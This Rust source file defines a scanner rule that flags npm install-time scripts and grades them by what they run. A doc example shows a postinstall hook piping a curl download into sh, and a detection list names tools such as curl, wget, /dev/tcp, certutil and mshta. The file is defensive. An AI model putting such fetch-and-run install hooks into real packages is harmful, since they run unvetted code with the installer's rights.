//! What a package manager runs as a package is installed.

use portcullis_model::{Audience, Confidence, Severity};
use portcullis_supply::manifest::{self, ManifestKind, Script};

use crate::evidence::PackageEvidence;
use crate::report::Report;
use crate::rule::Rule;

declare_rule! {
    /// ## What it finds
    ///
    /// Scripts of an npm package that run as it is installed (`preinstall`, `install`, `postinstall`), with what they run. One
    /// that fetches something, decodes something or brings its code along in the command is told loudest; one that only
    /// builds a native part is told to auditors. Packages that come inside of it, and those of the same release that it depends
    /// on, are asked as well.
    ///
    /// ## Why it matters
    ///
    /// Such a script runs with all rights of whoever installs the package, before anybody has used it (X18). `npx -y`
    /// installs without asking.
    ///
    /// ## Examples
    ///
    /// ```package bad
    /// --- package.json
    /// {"name": "some-mcp", "version": "1.0.0", "scripts": {"postinstall": "curl -s https://example.com/setup | sh"}}
    /// ```
    ///
    /// ```package bad
    /// --- package.json
    /// {"name": "some-mcp", "version": "1.0.0", "scripts": {"postinstall": "node scripts/setup.js"}}
    /// --- scripts/setup.js
    /// console.log("thank you");
    /// ```
    ///
    /// ```package bad
    /// --- package.json
    /// {"name": "some-mcp", "version": "1.0.0", "dependencies": {"@some/tools": "1.0.0"}}
    /// --- node_modules/@some/tools/package.json
    /// {"name": "@some/tools", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
    /// --- node_modules/@some/tools/setup.js
    /// console.log("thank you");
    /// ```
    ///
    /// ```package good
    /// --- package.json
    /// {"name": "some-mcp", "version": "1.0.0", "scripts": {"build": "tsc", "prepublishOnly": "npm run build",
    ///  "postinstall": "echo 'Thank you! See https://docs.example.com/some-mcp' || node -e \"process.exit(0)\""}}
    /// ```
    pub(crate) struct InstallScript {
        id: "install-script",
        summary: "a package runs a script as it is installed",
        severity: Medium,
        confidence: Certain,
        threats: [MaliciousPackage, InstallerSpoofing],
        entry: Package,
        remedy: "Read what it runs; install with `--ignore-scripts` where it is not needed.",
        references: ["CWE-829", "CWE-506"],
        since: "0.1.0",
    }
}

/// What fetches, decodes or carries code in a command.
const LOUD: &[&str] = &[
    "curl ", "wget ", "| sh", "|sh", "| bash", "|bash", "node -e", "node --eval", "python -c", "python3 -c", "powershell",
    "base64", "eval ", "/dev/tcp", "certutil", "bitsadmin", "mshta",
];
/// Programs that run or install what lies at an address.
const INSTALLERS: &[&str] = &["npm", "npx", "pnpm", "yarn", "bunx", "pip", "pip3", "pipx", "uvx", "uv", "git", "go", "cargo", "deno"];
/// Builders of native parts, and scripts that do nothing to whoever installs.
const QUIET: &[&str] = &[
    "node-gyp", "node-pre-gyp", "prebuild-install", "node-gyp-build", "cmake-js", "napi", "husky", "patch-package",
    "only-allow", "echo", "exit 0", "true", "tsc", "is-ci", "npm run build", "yarn build", "pnpm build",
];

impl Rule for InstallScript {
    fn check_package(&self, package: &PackageEvidence<'_>, report: &mut Report<'_>) {
        // Packages within, such as examples, are not installed with it; those that npm put beside it are.
        let own = package.manifests.iter().filter(|manifest| manifest.path == "package.json");
        let own = own.filter(|manifest| manifest.kind == ManifestKind::PackageJson);
        for manifest in own.chain(&manifest::of_parts(package.bundle)) {
            for script in manifest.scripts.iter().filter(|script| script.is_at_install) {
                told(script, package, &manifest.path, report);
            }
        }
    }
}

/// The commands of a line, without what only starts them.
fn parts(command: &str) -> impl Iterator<Item = &str> {
    let parts = command.split(['&', '|', ';']).map(str::trim);
    parts
        .map(|part| part.trim_start_matches("npx ").trim_start_matches("--no-install "))
        .filter(|part| !part.is_empty())
}

/// Words of thanks with an address in them fetch nothing, and neither does giving up.
fn only_prints(part: &str) -> bool {
    let code = ["node -e ", "node --eval "].iter().find_map(|start| part.strip_prefix(start));
    let code = code.map(|code| code.trim_matches(['"', '\'', ' ']).trim_end_matches([';', ' ']));
    let call = code.and_then(|code| code.strip_suffix(')')?.split_once('('));
    part.starts_with("echo ")
        || part.starts_with("printf ")
        || call.is_some_and(|(name, rest)| {
            (name.starts_with("console.") || name == "process.exit") && !rest.contains(['(', ')'])
        })
}

/// What makes a command loud.
fn loud(command: &str) -> Option<&str> {
    let is_piped = ["| sh", "|sh", "| bash", "|bash"].iter().any(|pipe| command.contains(pipe));
    let between: &[char] = if is_piped { &['&', ';'] } else { &['&', ';', '|'] };
    let mut spoken = command.split(between).map(str::trim).filter(|part| is_piped || !only_prints(part));
    spoken.find_map(|part| {
        let mark = LOUD.iter().find(|mark| part.contains(**mark)).copied();
        mark.or_else(|| {
            let installs = part.split_whitespace().any(|word| INSTALLERS.contains(&word));
            let mut words = part.split_whitespace();
            words.find(|word| installs && ["http://", "https://", "git+"].iter().any(|start| word.contains(start)))
        })
    })
}

fn told(script: &Script, package: &PackageEvidence<'_>, path: &str, report: &mut Report<'_>) {
    let command = script.command.text.to_ascii_lowercase();
    let loud = loud(&command);
    let quiet = parts(&command).all(|part| QUIET.iter().any(|known| part.starts_with(known)) || only_prints(part));
    let (message, severity, audience, confidence) = match loud {
        Some(mark) => (
            format!("`{}` runs a command with `{}` as the package is installed", script.name, mark.trim()),
            Severity::High,
            Audience::Regular,
            Confidence::High,
        ),
        None if quiet => (
            format!("`{}` builds a part of the package as it is installed", script.name),
            Severity::Low,
            Audience::Auditor,
            Confidence::Certain,
        ),
        None => {
            let folder = path.strip_suffix("package.json").unwrap_or_default();
            let file = script.command.text.split_whitespace().find_map(|word| {
                let path = format!("{folder}{}", word.trim_start_matches("./"));
                package.bundle.file(&path).or_else(|| package.bundle.file(&format!("{path}.js")))
            });
            let what = file.map_or_else(|| String::from("a command"), |file| format!("`{}`", file.path));
            (
                format!("`{}` runs {what} as the package is installed", script.name),
                Severity::Medium,
                Audience::Regular,
                Confidence::Certain,
            )
        }
    };
    report
        .found(package.at(path, script.command.span), message)
        .evidence(script.command.text.clone())
        .severity(severity)
        .confidence(confidence)
        .audience(audience);
}
